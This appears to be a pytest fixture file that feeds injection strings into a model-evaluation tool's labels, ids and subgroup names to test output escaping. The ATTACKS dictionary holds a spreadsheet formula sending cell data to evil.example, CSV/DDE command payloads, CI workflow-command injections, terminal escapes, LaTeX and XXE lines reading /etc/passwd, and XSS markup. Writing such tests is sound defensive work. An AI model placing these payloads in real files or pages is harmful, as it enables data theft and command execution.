"""Rows, classes, models, subgroups and files whose names attack whatever shows them."""

from __future__ import annotations

import pytest
from click.testing import CliRunner

from heldout.cli import verbs

ATTACKS = {
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "command": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "wide": "＝1+1",
    "second cell": "a;=1+1",
    "github": "::error file=a.py::pwned",
    "github late": "x ::set-output name=a::pwned",
    "github old": "##[error]pwned",
    "azure": "##vso[task.setvariable variable=a]pwned",
    "lines": "a\n::error::pwned\r\n::warning::pwned",
    "terminal": "\x1b[2J\x1b]0;pwned\x07\x9b31m",
    "bidi": "abc\u202edef\u2066",
    "latex": r"\input{/etc/passwd}\write18{touch pwned}^^5cinput $x$ % & # ~ {",
    "markdown": "[click](javascript:alert(1)) ![x](http://evil.example/x.png) <img src=x onerror=alert(1)>",
    "address": "http://evil.example www.evil.example @everyone a@b.example",
    "pipe": "a|b|c\\|d",
    "html": "</script><script>alert(1)</script><!--",
    "xml": "]]></system-out><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;\x00\ufffe",
}
"""Names of labels, models and subgroups; each is meant for one of the formats, and every format meets all of them."""


def run(*arguments):
    return CliRunner().invoke(verbs, list(map(str, arguments)))


@pytest.fixture(scope="session")
def attacks():
    return ATTACKS


@pytest.fixture
def folder(tmp_path, monkeypatch):
    """Predictions as JSON lines, whose labels, ids and subgroups are attacks."""
    import json

    monkeypatch.chdir(tmp_path)
    names = list(ATTACKS.values())
    for file, step in (("old", 1), ("new", 2)):
        rows = [
            {"id": f"{names[i % len(names)]}{i}", "segment": names[i % len(names)],
             "y_true": names[i % 3], "y_pred": names[(i if i % 5 else i + step) % 3]}
            for i in range(240)
        ]  # fmt: skip
        (tmp_path / f"{file}.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
    return tmp_path


@pytest.fixture(params=list(ATTACKS), ids=[name.replace(" ", "-") for name in ATTACKS])
def attack(request):
    return ATTACKS[request.param]


@pytest.fixture
def results(attack):
    """A comparison, a gate and an evaluation whose models, classes and subgroups carry one attack."""
    import heldout

    truth = [attack, "b", "c"] * 40
    models = {attack: [*truth[:90], *["b"] * 30], "other": [*truth[:60], *["c"] * 60]}
    segments = {attack: [attack, "s"] * 60}
    compared = heldout.compare(truth, models, segments=segments)
    evaluated = heldout.evaluate(truth, models["other"], segments=segments)
    gate = heldout.gate(truth, models, primary="accuracy", margin=0.1, baseline="other")
    return {"comparison": compared, "evaluation": evaluated, "gate": gate}
